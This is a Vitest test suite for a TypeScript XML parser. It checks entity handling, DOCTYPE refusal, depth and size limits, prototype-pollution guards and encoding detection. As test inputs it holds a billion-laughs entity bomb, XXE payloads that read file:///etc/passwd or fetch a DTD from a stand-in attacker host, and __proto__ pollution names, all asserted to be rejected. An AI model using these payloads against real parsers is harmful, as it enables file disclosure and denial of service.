import { describe, expect, it } from 'vitest'
import { parseXml, type XmlOptions } from '../src/xml/index.ts'

const parse = (text: string, options?: XmlOptions): unknown => parseXml(options).parse(Buffer.from(text))

describe('parseXml', () => {
  it('gives children by name, attributes after @, lists where a name stands twice, and text beside them', () => {
    const xml = `<?xml version="1.0" encoding="UTF-8"?>
      <!-- a comment -->
      <event type="paid" xmlns:x="urn:x">
        <id>42</id>
        <item>uno</item>
        <item>dos</item>
        <item n="3">tres</item>
        <empty/>
        <x:note><![CDATA[<ojo> & más]]></x:note>
        <mixed>a<b>c</b>d</mixed>
      </event>`
    expect(parse(xml)).toEqual({
      event: {
        '@type': 'paid',
        '@xmlns:x': 'urn:x',
        id: '42',
        item: ['uno', 'dos', { '@n': '3', '#text': 'tres' }],
        empty: '',
        'x:note': '<ojo> & más',
        mixed: { b: 'c', '#text': 'ad' },
      },
    })
  })

  it('keeps an element that is named in lists a list, where it stands once', () => {
    expect(parse('<a><item>1</item><b>2</b></a>', { lists: ['item'] })).toEqual({
      a: { item: ['1'], b: '2' },
    })
    expect(parse('<a><item>1</item><item>2</item></a>', { lists: ['item'] })).toEqual({
      a: { item: ['1', '2'] },
    })
  })

  it("reads XML's own five entities and characters, and refuses every other", () => {
    expect(parse('<a>&amp;&lt;&gt;&quot;&apos;&#64;&#x40;</a>')).toEqual({ a: `&<>"'@@` })
    for (const entity of [
      '&nbsp;',
      '&eacute;',
      '&constructor;',
      '&__proto__;',
      '&#0;',
      '&#xD800;',
      '&a',
      '&',
    ])
      expect(() => parse(`<a>${entity}</a>`), entity).toThrow()
  })

  it('refuses a DOCTYPE, with or without entities', () => {
    const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`)
    const doctypes = [
      '<!DOCTYPE a>',
      '<!doctype a>',
      `<!DOCTYPE a [<!ENTITY l0 "lol">${laughs.join('')}]>`,
      '<!DOCTYPE a [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
      '<!DOCTYPE a [<!ENTITY % l9 SYSTEM "https://evil.example/x.dtd"> %l9;]>',
      '<!DOCTYPE a SYSTEM "https://evil.example/x.dtd">',
    ]
    for (const doctype of doctypes) expect(() => parse(`${doctype}<a>&l9;</a>`), doctype).toThrow('DOCTYPE')
    for (const unfinished of ['<!DOCTYPE a [<a/>', '<!DOCTYPE a [<a></a>', '<!ELEMENT a ANY><a/>'])
      expect(() => parse(unfinished), unfinished).toThrow('DOCTYPE')
    expect(parse('<a><![CDATA[<!DOCTYPE html>]]></a>')).toEqual({ a: '<!DOCTYPE html>' })
  })

  it('refuses what is deeper than maxDepth, by default 64', () => {
    const nested = (depth: number) => `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`
    expect(() => parse(nested(64))).not.toThrow()
    expect(() => parse(nested(65))).toThrow('deeper than 64')
    expect(() => parse(nested(100_000))).toThrow('deeper than 64')
    expect(() => parse(nested(3), { maxDepth: 2 })).toThrow('deeper than 2')
  })

  it('refuses what is larger than maxBytes, by default 1 MiB', () => {
    const sized = (bytes: number) => `<a>${'x'.repeat(bytes - 7)}</a>`
    expect(parse(sized(2 ** 20))).toEqual({ a: 'x'.repeat(2 ** 20 - 7) })
    expect(() => parse(sized(2 ** 20 + 1))).toThrow('1048576 bytes')
    expect(() => parse(sized(11), { maxBytes: 10 })).toThrow('10 bytes')
  })

  it('never makes a key of a prototype', () => {
    for (const name of ['__proto__', 'constructor', 'prototype'])
      expect(() => parse(`<a><${name}><polluted>yes</polluted></${name}></a>`), name).toThrow(name)
    const parsed = parse('<a __proto__="x" constructor="y"/>') as { a: object }
    expect(Object.getPrototypeOf(parsed.a)).toBe(Object.prototype)
    expect(Object.keys(parsed.a)).toEqual(['@__proto__', '@constructor'])
    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false)
  })

  it.each([
    ['nothing', ''],
    ['text alone', 'hola'],
    ['JSON', '{"a":1}'],
    ['an end that is missing', '<a><b></b>'],
    ['an end of another element', '<a></b>'],
    ['two roots', '<a/><b/>'],
    ['text after the root', '<a/>b'],
    ['an attribute without quotes', '<a b=c/>'],
    ['an attribute that never ends', `<a b="${'x'.repeat(100_000)}`],
  ])('refuses %s', (_, text) => {
    expect(() => parse(text)).toThrow()
  })

  it('decodes what is declared, of four encodings', () => {
    const latin = (encoding: string) =>
      Buffer.from(`<?xml version="1.0" encoding="${encoding}"?><a>Ñuñoa</a>`, 'latin1')
    const { parse: read } = parseXml()
    expect(read(latin('ISO-8859-1'))).toEqual({ a: 'Ñuñoa' })
    expect(read(latin('windows-1252'))).toEqual({ a: 'Ñuñoa' })
    expect(read(Buffer.from('\uFEFF<a>Ñuñoa</a>'))).toEqual({ a: 'Ñuñoa' })
    for (const encoding of ['UTF-8', 'US-ASCII']) expect(() => read(latin(encoding)), encoding).toThrow()
    expect(() => read(latin('UTF-16'))).toThrow('UTF-16')
    expect(() => read(Buffer.from('\uFEFF<a/>', 'utf16le'))).toThrow()
  })

  it('refuses options that cannot be used', () => {
    expect(() => parseXml({ maxDepth: 0 })).toThrow(TypeError)
    expect(() => parseXml({ maxBytes: 1.5 })).toThrow(TypeError)
    expect(() => parseXml({ lists: 'item' as never })).toThrow(TypeError)
    expect(() => parseXml({ depth: 3 } as never)).toThrow(TypeError)
  })
})
